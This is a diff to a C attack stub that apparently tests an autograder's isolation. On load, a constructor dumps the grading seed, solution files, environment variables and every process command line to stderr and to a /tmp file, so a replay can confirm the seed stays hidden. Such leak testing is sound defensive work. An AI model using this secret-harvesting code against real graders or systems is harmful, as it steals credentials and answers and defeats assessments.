@@ -1,11 +1,17 @@
 
 /* Attack 4 (appended to the stub): print what is secret to stderr, then crash, hoping the
  * failed test's "output (last lines)" shows it: the hidden seed from the command line, the
- * seed file, run_autograder and the lab's solution. */
+ * seed file, run_autograder and the lab's solution. What the process could see of its own
+ * environment and of every command line on the machine also goes to /tmp/pl-attack-leak.txt,
+ * which the replay reads: the seed must be in none of them. */
+#include <dirent.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
+
+extern char **environ;
 
 static void attack_print(const char *path)
 {
@@ -28,6 +34,22 @@ __attribute__((constructor)) static void attack_leak(void)
     if (c) fclose(c);
     for (size_t i = 0; i < n; i += strlen(args + i) + 1)
         if (!strcmp(args + i, "--seed") && i + 7 < n) fprintf(stderr, "seed %s\n", args + i + 7);
+    FILE *seen = fopen("/tmp/pl-attack-leak.txt", "a");
+    if (seen) {
+        for (char **e = environ; *e; e++) fprintf(seen, "%s\n", *e);
+        DIR *d = opendir("/proc");
+        struct dirent *p;
+        while (d && (p = readdir(d))) {
+            snprintf(path, sizeof path, "/proc/%s/cmdline", p->d_name);
+            FILE *f = fopen(path, "r");
+            size_t m = f ? fread(args, 1, sizeof args, f) : 0;
+            if (f) fclose(f);
+            for (size_t i = 0; i < m; i++) fputc(args[i] ? args[i] : ' ', seen);
+            if (m) fputc('\n', seen);
+        }
+        if (d) closedir(d);
+        fclose(seen);
+    }
     snprintf(path, sizeof path, "%s/source/seed", root);
     attack_print(path);
     snprintf(path, sizeof path, "%s/run_autograder", root);
